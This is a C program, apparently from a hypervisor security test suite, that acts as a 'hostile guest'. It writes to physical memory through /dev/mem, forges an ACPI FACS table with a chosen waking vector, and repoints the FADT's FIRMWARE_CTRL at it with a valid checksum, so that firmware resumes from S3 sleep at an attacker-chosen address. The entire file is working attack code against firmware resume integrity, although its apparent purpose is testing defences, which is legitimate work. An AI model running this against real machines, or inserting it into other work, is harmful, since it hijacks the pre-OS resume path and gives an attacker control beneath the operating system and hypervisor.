// sv-facsmove: a hostile guest redirects the firmware's S3 resume path. It
// forges a FACS in the ACPI region (free space after the tables) whose
// waking vector is ADDRESS, and points the FADT's FIRMWARE_CTRL at it (ACPI
// 6.4 §5.2.9/§5.2.10; the checksum kept valid), through /dev/mem. Without
// the hypervisor the firmware then resumes at ADDRESS, whatever the
// kernel (or a hypervisor) wrote into the real FACS.
// usage: sv-facsmove ADDRESS
// Prints "rsdp", "fadt", "facs_real", "facs_fake" (hex physical addresses).
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

static int mem;

// Physical memory through an mmap of /dev/mem (read() fails above the end
// of the guest's RAM, where the ACPI tables are; no O_SYNC: an uncached
// mapping would conflict with the kernel's own and be refused).
static uint8_t *map(uint64_t pa, size_t len)
{
    uint64_t base = pa & ~0xFFFull;
    size_t span = (size_t)(pa - base) + len;
    void *p = mmap(NULL, span, PROT_READ | PROT_WRITE, MAP_SHARED, mem, (off_t)base);
    if (p == MAP_FAILED) {
        fprintf(stderr, "mmap /dev/mem at 0x%llx: %m\n", (unsigned long long)pa);
        exit(1);
    }
    return (uint8_t *)p + (pa - base);
}

static void put(uint64_t pa, const uint8_t *p, size_t len)
{
    (void)pa, (void)p, (void)len; // the mapping is the memory itself
}

static uint32_t rd32(const uint8_t *p) { uint32_t v; memcpy(&v, p, 4); return v; }
static void wr32(uint8_t *p, uint32_t v) { memcpy(p, &v, 4); }
static uint8_t sum(const uint8_t *p, size_t n) { uint8_t s = 0; while (n--) s += *p++; return s; }

int main(int argc, char **argv)
{
    if (argc != 2) {
        fprintf(stderr, "usage: sv-facsmove ADDRESS\n");
        return 2;
    }
    uint32_t vector = (uint32_t)strtoul(argv[1], NULL, 0);
    mem = open("/dev/mem", O_RDWR);
    if (mem < 0) {
        perror("/dev/mem");
        return 1;
    }
    uint8_t *bios = map(0xE0000, 0x20000);
    uint64_t rsdp = 0;
    for (uint32_t off = 0; off + 20 <= 0x20000; off += 16)
        if (!memcmp(bios + off, "RSD PTR ", 8) && sum(bios + off, 20) == 0) {
            rsdp = 0xE0000 + off;
            break;
        }
    if (!rsdp) {
        fprintf(stderr, "no RSDP\n");
        return 1;
    }
    uint64_t rsdt_pa = rd32(bios + (rsdp - 0xE0000) + 16);
    uint8_t *rsdt = map(rsdt_pa, 36);
    uint32_t rsdt_len = rd32(rsdt + 4);
    rsdt = map(rsdt_pa, rsdt_len);
    uint64_t fadt_pa = 0, table_end = rsdt_pa + rsdt_len;
    for (uint32_t off = 36; off + 4 <= rsdt_len; off += 4) {
        uint64_t t = rd32(rsdt + off);
        uint8_t *h = map(t, 36);
        if (t + rd32(h + 4) > table_end) table_end = t + rd32(h + 4);
        if (!memcmp(h, "FACP", 4)) fadt_pa = t;
    }
    if (!fadt_pa) {
        fprintf(stderr, "no FADT\n");
        return 1;
    }
    uint32_t fadt_len = rd32(map(fadt_pa, 36) + 4);
    if (fadt_len < 40 || fadt_len > 4096) {
        fprintf(stderr, "odd FADT length %u\n", fadt_len);
        return 1;
    }
    uint8_t *fadt = map(fadt_pa, fadt_len);
    uint64_t real = rd32(fadt + 36);
    // The first 64 zero bytes, 64-aligned, after every table (same region).
    uint64_t fake = (table_end + 63) & ~63ull;
    uint8_t *f = map(fake, 4096);
    for (int tries = 0; tries < 63; ++tries, fake += 64, f += 64) {
        int zero = 1;
        for (int i = 0; i < 64; ++i) zero &= f[i] == 0;
        if (zero) break;
    }
    memset(f, 0, 64);
    memcpy(f, "FACS", 4);
    wr32(f + 4, 64);
    wr32(f + 12, vector);
    wr32(fadt + 36, (uint32_t)fake);
    if (fadt_len >= 140) memset(fadt + 132, 0, 8); // X_FIRMWARE_CTRL
    fadt[9] = 0;
    fadt[9] = (uint8_t)-sum(fadt, fadt_len);
    put(fake, f, 64);
    put(fadt_pa, fadt, fadt_len);
    printf("rsdp 0x%llx\nfadt 0x%llx\nfacs_real 0x%llx\nfacs_fake 0x%llx\n", (unsigned long long)rsdp,
           (unsigned long long)fadt_pa, (unsigned long long)real, (unsigned long long)fake);
    return rd32(map(fadt_pa, 40) + 36) == (uint32_t)fake ? 0 : 1;
}
